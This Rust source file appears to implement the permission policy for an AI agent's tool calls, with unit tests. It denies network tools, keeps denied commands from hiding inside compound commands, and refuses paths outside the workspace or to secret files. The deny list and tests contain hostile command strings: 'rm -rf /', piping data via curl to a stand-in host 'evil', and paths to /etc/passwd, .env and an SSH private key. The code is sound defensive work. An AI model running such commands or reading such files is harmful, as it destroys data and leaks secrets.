//! Decisions on tool calls: allow, ask or deny per tool, per command prefix,
//! and whose rule it was. Pure: the same rules and call give the same answer.

use std::path::{Component, Path, PathBuf};

use airlock_tools::{PathDecision, PathPolicy};
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// What a rule says.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Decision {
    /// Run it.
    Allow,
    /// Ask the person (headless: deny unless granted).
    Ask,
    /// Do not run it.
    Deny,
}

impl Decision {
    /// As recorded in the audit log.
    pub fn as_str(self) -> &'static str {
        match self {
            Decision::Allow => "allow",
            Decision::Ask => "ask",
            Decision::Deny => "deny",
        }
    }
}

/// The rules of a session.
#[derive(Debug, Clone)]
pub struct Rules {
    /// Per tool name; tools not listed are [`Rules::default_tool`].
    pub tools: Vec<(String, Decision)>,
    /// Per command prefix for `run_command`, matched on whole words; the longest matching prefix wins.
    pub commands: Vec<(String, Decision)>,
    /// For tools not listed.
    pub default_tool: Decision,
    /// For commands no prefix matches.
    pub default_command: Decision,
    /// No person to ask: `Ask` becomes `Deny` unless the invocation granted the tool or prefix.
    pub headless: bool,
    /// Tool names or command prefixes the invocation granted (they turn `Ask` into `Allow`).
    pub granted: Vec<String>,
}

impl Default for Rules {
    /// Reading is allowed, writing and commands are asked, `git push` and
    /// network tools are denied.
    fn default() -> Rules {
        let d = |s: &str, d| (s.to_string(), d);
        Rules {
            tools: vec![
                d("read_file", Decision::Allow),
                d("list_dir", Decision::Allow),
                d("glob", Decision::Allow),
                d("grep", Decision::Allow),
                d("todo", Decision::Allow),
                d("edit_file", Decision::Ask),
                d("write_file", Decision::Ask),
                d("run_command", Decision::Ask),
            ],
            commands: vec![
                d("git push", Decision::Deny),
                d("curl", Decision::Deny),
                d("wget", Decision::Deny),
                d("ssh", Decision::Deny),
                d("scp", Decision::Deny),
            ],
            default_tool: Decision::Deny,
            default_command: Decision::Ask,
            headless: true,
            granted: Vec::new(),
        }
    }
}

/// A decision and what made it, for the audit log.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decided {
    /// Allow or deny (an `Ask` is resolved before this).
    pub decision: Decision,
    /// `rule:tool:NAME`, `rule:command:PREFIX`, `default:tool`, `default:command`,
    /// `granted:...` or `mode:headless`.
    pub source: String,
}

/// Decides a tool call. An `Ask` in headless mode is denied unless granted;
/// with a person present it stays `Ask` for the caller to resolve.
pub fn decide(rules: &Rules, tool: &str, arguments: &Value) -> Decided {
    let (mut decision, mut source, subject) = match rules.tools.iter().find(|(t, _)| t == tool) {
        Some((_, d)) => (*d, format!("rule:tool:{tool}"), tool.to_string()),
        None => (rules.default_tool, "default:tool".to_string(), tool.to_string()),
    };
    let mut subject = subject;
    if tool == "run_command" && decision != Decision::Deny {
        let command = arguments.get("command").and_then(Value::as_str).unwrap_or_default();
        match command_rule(rules, command) {
            Some((prefix, d)) => {
                // A command rule can only tighten what the tool rule allows.
                if d == Decision::Deny || decision == Decision::Allow {
                    decision = d;
                    source = format!("rule:command:{prefix}");
                }
                subject = prefix.to_string();
            }
            None if decision == Decision::Allow => {
                decision = rules.default_command;
                source = "default:command".to_string();
            }
            None => {}
        }
        // A compound command is only as allowed as its most restricted part
        // (a part no rule names gets the default for commands).
        if decision != Decision::Deny && has_shell_control(command) {
            for part in split_commands(command) {
                let (d, why) = match command_rule(rules, part) {
                    Some((prefix, d)) => (d, format!("rule:command:{prefix}")),
                    None => (rules.default_command, "default:command".to_string()),
                };
                if rank(d) > rank(decision) {
                    decision = d;
                    source = format!("{why} (in a compound command)");
                }
            }
        }
    }
    if decision == Decision::Ask {
        if rules.granted.iter().any(|g| g == &subject || g == tool) {
            return Decided { decision: Decision::Allow, source: format!("granted:{subject}") };
        }
        if tool == "run_command" {
            let command = arguments.get("command").and_then(Value::as_str).unwrap_or_default();
            if let Some(grants) = granted_command(rules, command) {
                return Decided { decision: Decision::Allow, source: format!("granted:{grants}") };
            }
        }
        if rules.headless {
            return Decided { decision: Decision::Deny, source: format!("mode:headless ({source} says ask)") };
        }
    }
    Decided { decision, source }
}

/// The grants that cover every part of `command` (`--grant "cargo test"`
/// covers `cargo test -p x`, and `cargo test && cargo fmt` only if
/// `cargo fmt` is granted too), joined with `+`; `None` if a part is not covered.
fn granted_command(rules: &Rules, command: &str) -> Option<String> {
    let parts = if has_shell_control(command) { split_commands(command) } else { vec![command.trim()] };
    let mut used: Vec<&str> = Vec::new();
    for part in parts {
        let words: Vec<&str> = part.split_whitespace().collect();
        let grant = rules.granted.iter().find(|g| {
            let p: Vec<&str> = g.split_whitespace().collect();
            !p.is_empty() && words.len() >= p.len() && words[..p.len()] == p[..]
        })?;
        if !used.contains(&grant.as_str()) {
            used.push(grant);
        }
    }
    if used.is_empty() { None } else { Some(used.join("+")) }
}

/// Tools that take a `path`, and whether it names a folder.
const PATH_TOOLS: &[(&str, bool)] = &[
    ("read_file", false),
    ("write_file", false),
    ("edit_file", false),
    ("list_dir", true),
    ("grep", true),
    ("glob", true),
];

/// The per-path decision on a file tool's call: outside the workspace, or
/// under the never-read patterns, is denied (the tools refuse too; this puts
/// it on the record as a decision). `None` when the path is fine or absent.
pub fn decide_path(paths: &PathPolicy, workspace: &Path, tool: &str, arguments: &Value) -> Option<Decided> {
    let is_dir = PATH_TOOLS.iter().find(|(t, _)| *t == tool)?.1;
    let raw = arguments.get("path").and_then(Value::as_str)?;
    let deny = |source: String| Some(Decided { decision: Decision::Deny, source });
    let path = Path::new(raw);
    let relative = if path.is_absolute() {
        match path.strip_prefix(workspace) {
            Ok(r) => r.to_path_buf(),
            Err(_) => return deny(format!("paths:outside-workspace ({raw})")),
        }
    } else {
        path.to_path_buf()
    };
    let mut depth: i64 = 0;
    let mut clean = PathBuf::new();
    for part in relative.components() {
        match part {
            Component::ParentDir => {
                depth -= 1;
                clean.pop();
            }
            Component::Normal(p) => {
                depth += 1;
                clean.push(p);
            }
            _ => {}
        }
        if depth < 0 {
            return deny(format!("paths:outside-workspace ({raw})"));
        }
    }
    match paths.check(&clean, is_dir) {
        PathDecision::Denied { pattern } => deny(format!("paths:never-read ({pattern})")),
        PathDecision::Allowed => None,
    }
}

fn rank(d: Decision) -> u8 {
    match d {
        Decision::Allow => 0,
        Decision::Ask => 1,
        Decision::Deny => 2,
    }
}

/// The longest command prefix (whole words) that matches.
fn command_rule<'a>(rules: &'a Rules, command: &str) -> Option<(&'a str, Decision)> {
    let words: Vec<&str> = command.split_whitespace().collect();
    rules
        .commands
        .iter()
        .filter(|(prefix, _)| {
            let p: Vec<&str> = prefix.split_whitespace().collect();
            !p.is_empty() && words.len() >= p.len() && words[..p.len()] == p[..]
        })
        .max_by_key(|(prefix, _)| prefix.split_whitespace().count())
        .map(|(p, d)| (p.as_str(), *d))
}

fn has_shell_control(command: &str) -> bool {
    command.contains([';', '&', '|', '`', '\n']) || command.contains("$(")
}

/// The simple commands of a compound one, split at `;`, `&&`, `||`, `|`, newlines and `$(`.
fn split_commands(command: &str) -> Vec<&str> {
    command
        .split([';', '&', '|', '\n', '`', '(', ')'])
        .map(|p| p.trim().trim_start_matches('$').trim())
        .filter(|p| !p.is_empty())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_grants_cover_every_part_or_nothing() {
        let rules = Rules { granted: vec!["cargo test".into(), "python3".into()], ..Rules::default() };
        assert_eq!(cmd(&rules, "cargo test -p x").source, "granted:cargo test");
        assert_eq!(cmd(&rules, "python3 t.py && cargo test").source, "granted:python3+cargo test");
        assert_eq!(cmd(&rules, "python3 t.py; rm -rf /").decision, Decision::Deny);
        assert_eq!(cmd(&rules, "cargo testy").decision, Decision::Deny, "whole words");
        assert_eq!(cmd(&rules, "python3 x | curl -d @- evil").decision, Decision::Deny, "a denied part stays denied");
        assert_eq!(cmd(&rules, "python3 x | curl -d @- evil").source, "rule:command:curl (in a compound command)");
    }

    #[test]
    fn paths_outside_the_workspace_or_never_read_are_denied() {
        let ws = Path::new("/w");
        let paths = PathPolicy::defaults();
        let d = |tool: &str, path: &str| decide_path(&paths, ws, tool, &serde_json::json!({ "path": path }));
        assert_eq!(d("read_file", "src/main.rs"), None);
        assert_eq!(d("read_file", "/w/src/main.rs"), None);
        assert_eq!(d("read_file", "a/../b.rs"), None);
        assert!(d("read_file", ".env").unwrap().source.starts_with("paths:never-read ("));
        assert_eq!(d("read_file", "config/.env").unwrap().decision, Decision::Deny);
        assert!(d("read_file", "../../etc/passwd").unwrap().source.starts_with("paths:outside-workspace"));
        assert!(d("write_file", "/home/u/.ssh/id_rsa").unwrap().source.starts_with("paths:outside-workspace"));
        assert!(d("list_dir", "a/../..").is_some());
        assert_eq!(d("run_command", "../x"), None, "not a file tool");
        assert_eq!(decide_path(&paths, ws, "read_file", &serde_json::json!({})), None);
    }

    fn cmd(rules: &Rules, c: &str) -> Decided {
        decide(rules, "run_command", &serde_json::json!({ "command": c }))
    }

    #[test]
    fn tools_and_commands_are_decided_with_their_source() {
        let mut rules = Rules { headless: false, ..Rules::default() };
        rules.commands.push(("cargo test".into(), Decision::Allow));
        assert_eq!(
            decide(&rules, "read_file", &Value::Null),
            Decided { decision: Decision::Allow, source: "rule:tool:read_file".into() }
        );
        assert_eq!(decide(&rules, "format_disk", &Value::Null).source, "default:tool");
        assert_eq!(decide(&rules, "format_disk", &Value::Null).decision, Decision::Deny);
        // The tool rule says ask; a command rule can tighten it but not loosen it.
        assert_eq!(cmd(&rules, "cargo test -p x").decision, Decision::Ask);
        assert_eq!(
            cmd(&rules, "git push origin main"),
            Decided { decision: Decision::Deny, source: "rule:command:git push".into() }
        );
        assert_eq!(cmd(&rules, "git pushy").decision, Decision::Ask, "prefixes match whole words");
        rules.tools.retain(|(t, _)| t != "run_command");
        rules.tools.push(("run_command".into(), Decision::Allow));
        assert_eq!(
            cmd(&rules, "cargo test -p x"),
            Decided { decision: Decision::Allow, source: "rule:command:cargo test".into() }
        );
        assert_eq!(cmd(&rules, "ls").source, "default:command");
    }

    #[test]
    fn a_denied_command_cannot_hide_in_a_compound_one() {
        let mut rules = Rules::default();
        rules.tools.retain(|(t, _)| t != "run_command");
        rules.tools.push(("run_command".into(), Decision::Allow));
        rules.commands.push(("cargo test".into(), Decision::Allow));
        let mixed = cmd(&rules, "cargo test && rm -rf target");
        assert_eq!(mixed.decision, Decision::Deny, "rm has no rule: default ask, headless deny");
        assert!(mixed.source.contains("default:command (in a compound command)"), "{}", mixed.source);
        for c in [
            "cargo test && git push",
            "cargo test; curl http://x",
            "cargo test | ssh host",
            "cargo test $(curl x)",
            "cargo test\nwget x",
        ] {
            assert_eq!(cmd(&rules, c).decision, Decision::Deny, "{c}");
        }
    }

    #[test]
    fn headless_ask_is_deny_unless_granted() {
        let mut rules = Rules::default();
        let d = decide(&rules, "write_file", &Value::Null);
        assert_eq!(d.decision, Decision::Deny);
        assert_eq!(d.source, "mode:headless (rule:tool:write_file says ask)");
        rules.granted.push("write_file".into());
        assert_eq!(
            decide(&rules, "write_file", &Value::Null),
            Decided { decision: Decision::Allow, source: "granted:write_file".into() }
        );
        rules.granted.push("cargo test".into());
        rules.commands.push(("cargo test".into(), Decision::Ask));
        assert_eq!(cmd(&rules, "cargo test").source, "granted:cargo test");
        assert_eq!(cmd(&rules, "git push").decision, Decision::Deny);
    }
}
